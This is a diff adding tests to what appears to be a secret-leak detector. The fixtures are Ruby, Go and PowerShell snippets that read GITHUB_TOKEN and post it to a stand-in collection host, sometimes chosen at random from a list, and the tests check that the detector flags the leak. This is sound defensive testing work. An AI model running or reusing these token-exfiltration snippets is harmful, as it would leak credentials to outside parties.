@@ -410,3 +410,33 @@ def test_a_key_file_uploaded_through_a_handle_is_stopped_and_a_report_upload_pas
 )
 def test_rewrites_of_a_file_upload_are_errors_at_the_send(path, text, line):
     assert (FLOW, line, "error") in _loud({path: text}), found({path: text})
+
+
+_TOKEN_PICKS = {
+    "s.rb": 'require "net/http"\nHOSTS = ["https://api.github.com/x", "https://relay.collect.example/in"]\n'
+    'tok = ENV["GITHUB_TOKEN"]\nNet::HTTP.post_form(URI(HOSTS.sample), "t" => tok)\n',
+    "i.rb": 'require "net/http"\nHOSTS = ["https://api.github.com/x", "https://relay.collect.example/in"]\n'
+    'tok = ENV["GITHUB_TOKEN"]\nu = HOSTS[rand(HOSTS.size)]\nNet::HTTP.post_form(URI(u), "t" => tok)\n',
+    "e.rb": 'require "net/http"\nHOSTS = ["https://api.github.com/x", "https://relay.collect.example/in"]\n'
+    'tok = ENV["GITHUB_TOKEN"]\nHOSTS.each do |h|\n  Net::HTTP.post_form(URI(h), "t" => tok)\nend\n',
+    "p.go": 'package main\n\nimport (\n\t"math/rand"\n\t"net/http"\n\t"net/url"\n\t"os"\n)\n\n'
+    'var hosts = []string{"https://api.github.com/x", "https://relay.collect.example/in"}\n\n'
+    'func main() {\n\ttok := os.Getenv("GITHUB_TOKEN")\n'
+    '\thttp.PostForm(hosts[rand.Intn(len(hosts))], url.Values{"t": {tok}})\n}\n',
+    "r.go": 'package main\n\nimport (\n\t"net/http"\n\t"net/url"\n\t"os"\n)\n\nfunc main() {\n'
+    '\thosts := []string{"https://api.github.com/x", "https://relay.collect.example/in"}\n'
+    '\ttok := os.Getenv("GITHUB_TOKEN")\n\tfor _, h := range hosts {\n\t\thttp.PostForm(h, url.Values{"t": {tok}})\n\t}\n}\n',
+    "g.ps1": "$hosts = @('https://api.github.com/x', 'https://relay.collect.example/in')\n$tok = $env:GITHUB_TOKEN\n"
+    "Invoke-RestMethod -Uri ($hosts | Get-Random) -Method Post -Body @{t=$tok}\n",
+    "f.ps1": "$hosts = @('https://api.github.com/x', 'https://relay.collect.example/in')\n$tok = $env:GITHUB_TOKEN\n"
+    "foreach ($h in $hosts) {\n  Invoke-RestMethod -Uri $h -Method Post -Body @{t=$tok}\n}\n",
+}
+
+
+@pytest.mark.parametrize("path", sorted(_TOKEN_PICKS))
+def test_a_host_picked_at_run_time_is_judged_for_each_host_in_ruby_go_and_powershell(path):
+    text = _TOKEN_PICKS[path]
+    flows = [msg for _, rule, _, _, msg in found({path: text}) if rule == FLOW]
+    assert flows and "relay.collect.example" in flows[0], found({path: text})
+    honest = text.replace("https://relay.collect.example/in", "https://uploads.github.com/y")
+    assert _loud({path: honest}) == []
